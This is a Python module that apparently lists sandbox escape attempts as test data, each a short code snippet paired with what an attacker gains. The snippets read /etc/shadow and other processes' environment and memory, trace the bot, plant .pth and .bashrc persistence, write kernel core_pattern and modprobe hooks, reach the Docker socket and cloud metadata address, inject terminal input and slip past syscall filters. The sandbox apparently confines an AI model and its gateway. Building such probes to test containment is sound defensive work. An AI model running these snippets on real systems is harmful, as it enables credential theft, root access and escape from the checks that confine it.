"""Ways out of a sandbox: each with what an attacker would gain by it.

An attempt is a piece of Python that returns when it succeeds, and raises where it is held back.
"""

import platform
import sysconfig
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Literal

PACKAGES = sysconfig.get_path("purelib")

Kind = Literal["files", "processes", "kernel", "network", "environment", "limits"]


@dataclass(frozen=True)
class Attempt:
    """One escape attempt.

    `gain` says what it would achieve; `code` may contain names of outside targets in braces.
    """

    kind: Kind
    name: str
    gain: str
    code: str


def _make_read(name: str, path: str, gain: str = "a secret") -> Attempt:
    return Attempt("files", name, gain, f"assert open({path!r}, 'rb').read(1)")


def _make_write(name: str, path: str, gain: str) -> Attempt:
    return Attempt("files", name, gain, f"open({path!r}, 'a').write('x')")


def _make_connect(name: str, family: str, address: str, gain: str, kind: str = "STREAM") -> Attempt:
    code = (
        f"s = socket.socket(socket.{family}, socket.SOCK_{kind}); s.settimeout(1); "
        f"s.connect({address}); s.send(b'x')"
    )
    return Attempt("network", name, gain, code)


_ALL: Sequence[Attempt] = (
    _make_read("another account's home", "{secret}", "keys and tokens"),
    _make_read("the checkout's .env", "{env}", "the bot's tokens"),
    _make_read("a path with ..", "/tmp/../{secret}", "keys and tokens"),
    Attempt(
        "files", "any file of any home", "whatever somebody keeps there",
        "found, ours = [], {os.path.realpath(each) for each in (sys.prefix, sys.base_prefix)}\n"
        "for top in ('/root', '/home', {home!r}):\n"
        "    for folder, inner, files in os.walk(top):\n"
        "        inner[:] = [each for each in inner if os.path.join(folder, each) not in ours]\n"
        "        found += [each for each in files if os.access(os.path.join(folder, each), 4)]\n"
        "assert found",
    ),
    _make_read("the password file", "/etc/shadow", "password hashes"),
    _make_read("the outside by the first process", "/proc/1/root/{secret}", "any file"),
    _make_read("the outside by its folder", "/proc/1/cwd/../{secret}", "any file"),
    _make_read("the outside by the bot's folder", "/proc/{victim}/root/{secret}", "any file"),
    Attempt(
        "files", "a link in the branch to a secret", "a secret, read by a test",
        "os.symlink({secret!r}, '/tmp/link'); open('/tmp/link').read()",
    ),
    Attempt(
        "files", "a hard link to a secret", "a secret, in the branch",
        "os.link({secret!r}, '/tmp/hard'); open('/tmp/hard').read()",
    ),
    Attempt(
        "files", "descriptors that were left open", "whatever the bot has open",
        "import stat\n"
        "for fd in range(3, 1024):\n"
        "    try: kind = stat.S_IFMT(os.fstat(fd).st_mode)\n"
        "    except OSError: continue\n"
        "    if kind not in (stat.S_IFIFO, stat.S_IFCHR): break\n"
        "else: raise PermissionError",
    ),
    Attempt("files", "a file outside", "the bot's own code", "open({outside!r}, 'r+')"),
    _make_write("the home of the account", "{home}/.bashrc", "a program at the next login"),
    _make_write("a program of the system", "/usr/bin/theseus-pwned", "every program here"),
    # Python reads such files only here. The folder around it may be in the sandbox's own /tmp.
    _make_write("the interpreter's packages", f"{PACKAGES}/pwned.pth", "the bot at its next start"),
    _make_write("the system's settings", "/etc/theseus-pwned", "the machine's settings"),
    _make_write("the root folder", "/theseus-pwned", "a place to leave things"),
    _make_write("the devices' folder", "/dev/theseus-pwned", "memory that nobody counts"),
    Attempt(
        "files", "git's pointer in the worktree", "programs run by our own git",
        "open('.git', 'w').write('gitdir: /tmp/evil')",
    ),
    Attempt(
        "files", "a device node", "the disk below the files",
        "os.mknod('/tmp/disk', 0o60666, os.makedev(8, 0)); open('/tmp/disk', 'rb')",
    ),
    Attempt(
        "files", "mounting the system writable", "every program here",
        "mount = libc.mount(b'none', b'/usr', None, 32 | 4096, None); assert mount == 0",
    ),
    Attempt(
        "files", "another root", "a view of the outside",
        "os.chroot('/proc/1/root'); open({secret!r})",
    ),
    Attempt(
        "files", "a copy of the mounts", "the system writable", "syscall(428, -100, b'/', 1)",
    ),
    Attempt("files", "another file system", "bugs in reading one", "syscall(430, b'ext4', 0)"),
    Attempt("processes", "a signal to the bot", "the bot's end", "os.kill({victim}, 0)"),
    Attempt(
        "processes", "a signal to everybody", "the bot's end",
        "os.kill({victim}, signal.SIGKILL)",
    ),
    Attempt(
        "processes", "the bot's environment", "its tokens",
        "assert open('/proc/{victim}/environ', 'rb').read()",
    ),
    Attempt(
        "processes", "any process's environment", "tokens",
        "import glob\n"
        "assert any(b'very-secret' in read(path) for path in glob.glob('/proc/*/environ'))",
    ),
    Attempt(
        "processes", "the bot's memory", "its tokens", "open('/proc/{victim}/mem', 'rb')",
    ),
    Attempt(
        "processes", "tracing the bot", "control of it", "syscall(101, 16, {victim}, 0, 0)",
    ),
    Attempt(
        "processes", "tracing the first process in here", "the sandbox's own set-up",
        "syscall(101, 16, 1, 0, 0)",
    ),
    Attempt(
        "processes", "a handle on the bot", "signals, its files", "os.pidfd_open({victim})",
    ),
    Attempt(
        "processes", "reading memory of another", "its tokens",
        "syscall(310, 1, 0, 0, 0, 0, 0)",
    ),
    Attempt(
        "kernel", "the program the kernel runs on a crash", "root on the machine",
        "open('/proc/sys/kernel/core_pattern', 'r+')",
    ),
    Attempt(
        "kernel", "the program the kernel loads modules with", "root on the machine",
        "open('/proc/sys/kernel/modprobe', 'r+')",
    ),
    Attempt(
        "kernel", "the machine's memory settings", "a machine that stalls",
        "open('/proc/sys/vm/overcommit_memory', 'r+')",
    ),
    Attempt(
        "kernel", "the key that restarts the machine", "the machine's end",
        "open('/proc/sysrq-trigger', 'w')",
    ),
    Attempt(
        "kernel", "the program the kernel tells of devices", "root on the machine",
        "open('/sys/kernel/uevent_helper', 'w')",
    ),
    Attempt(
        "kernel", "control groups", "limits lifted, a program run on release",
        "os.mkdir('/sys/fs/cgroup/theseus-pwned')",
    ),
    Attempt("kernel", "the machine's memory", "everything", "open('/dev/mem', 'rb')"),
    Attempt("kernel", "the kernel's messages", "addresses", "open('/dev/kmsg')"),
    Attempt(
        "kernel", "becoming root", "capabilities",
        "os.setuid(0)\n"
        "assert 'CapEff:\\t0000000000000000' not in open('/proc/self/status').read()",
    ),
    Attempt(
        "kernel", "namespaces of its own", "much of the kernel to attack",
        "assert libc.unshare(0x10000000) == 0",
    ),
    Attempt(
        "kernel", "a program with the right of its owner", "capabilities",
        "assert 'NoNewPrivs:\\t1' not in open('/proc/self/status').read()",
    ),
    Attempt("kernel", "keys kept in the kernel", "tickets and keys", "syscall(250, 0, -3, 0)"),
    Attempt("kernel", "programs in the kernel", "bugs of the verifier", "syscall(321, 99, 0, 0)"),
    Attempt("kernel", "faults handled by hand", "races in the kernel", "syscall(323, 1)"),
    Attempt("kernel", "the processor's counters", "secrets", "syscall(298, 0, 0, -1, -1, 0)"),
    Attempt("kernel", "calls by a ring", "calls past the filter", "syscall(425, 1, addr(200))"),
    Attempt("kernel", "calls by other numbers", "any call", "syscall(0x40000000 + 39)"),
    Attempt("kernel", "another kernel", "the machine", "syscall(246, 0, 0, 0, 0)"),
    Attempt("kernel", "a module", "the machine", "syscall(313, -1, b'', 0)"),
    Attempt("kernel", "the clock", "time for everybody", "syscall(227, 0, addr(16))"),
    Attempt(
        "kernel", "files by handle", "any file", "syscall(304, -100, addr(64), 0)",
    ),
    Attempt(
        "kernel", "typing into our terminal", "commands as the person there",
        "fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), 0x5412, b'x')",
    ),
    Attempt(
        "kernel", "typing by a number with more bits", "a call past the filter",
        "import pty\nsyscall(16, pty.openpty()[1], ctypes.c_ulong(0x100005412), b'x')",
    ),
    _make_connect("a service of this machine", "AF_INET", "('127.0.0.1', {port})", "the gateway"),
    _make_connect("the same in version 6", "AF_INET6", "('::1', {port})", "the model's gateway"),
    _make_connect("the cloud's own address", "AF_INET", "('169.254.169.254', 80)", "its role"),
    _make_connect("an address outside", "AF_INET", "('1.1.1.1', 53)", "a way to send secrets"),
    _make_connect("one in version 6", "AF_INET6", "('2606:4700:4700::1111', 53)", "a way out"),
    _make_connect("packets without a connection", "AF_INET", "('8.8.8.8', 53)", "a way out",
        "DGRAM"),
    Attempt(
        "network", "a name looked up", "secrets in names",
        "socket.getaddrinfo('secret.example.org', 443)",
    ),
    _make_connect("the host of a virtual machine", "AF_VSOCK", "(2, 1024)", "the machine's host"),
    _make_connect("a socket without a file", "AF_UNIX", "'\\0{abstract}'",
        "a desktop, a bus, a shell"),
    _make_connect("a socket file of the bot", "AF_UNIX", "{socket!r}",
        "the model, past its limits"),
    _make_connect("docker's socket", "AF_UNIX", "'/var/run/docker.sock'", "root on the machine"),
    _make_connect("the system's bus", "AF_UNIX", "'/run/dbus/system_bus_socket'", "its services"),
    _make_connect("the screen", "AF_UNIX", "'/tmp/.X11-unix/X0'", "keys pressed"),
    Attempt(
        "network", "packets as they are", "others' traffic",
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)",
    ),
    Attempt(
        "network", "another's network", "the machine's network",
        "fd = os.open('/proc/1/ns/net', os.O_RDONLY); assert libc.setns(fd, 0x40000000) == 0",
    ),
    Attempt(
        "environment", "a variable", "tokens",
        "assert any('very-secret' in value for value in os.environ.values())",
    ),
    Attempt(
        "environment", "memory shared by name", "what others keep there",
        "assert open('/dev/shm/{shared}').read()",
    ),
    Attempt(
        "environment", "memory shared by number", "what others keep there",
        "assert libc.shmget({segment}, 1, 0) >= 0",
    ),
    Attempt(
        "environment", "messages passed by number", "what others say there",
        "assert libc.msgget({segment}, 0) >= 0",
    ),
    Attempt(
        "environment", "the machine's name", "a machine renamed",
        "assert libc.sethostname(b'pwned', 5) == 0",
    ),
    Attempt(
        "limits", "lifting its own limits", "everybody's memory",
        "import resource\n"
        "resource.setrlimit(resource.RLIMIT_DATA, (-1, -1))",
    ),
    Attempt("limits", "a higher priority", "everybody's time", "os.nice(-5)"),
    Attempt(
        "limits", "time before everybody else", "a machine that stalls",
        "os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))",
    ),
)  # fmt: skip
# Calls have other numbers on other processors.
_CALLS = platform.machine() == "x86_64"
ATTEMPTS = tuple(each for each in _ALL if _CALLS or "syscall(" not in each.code)
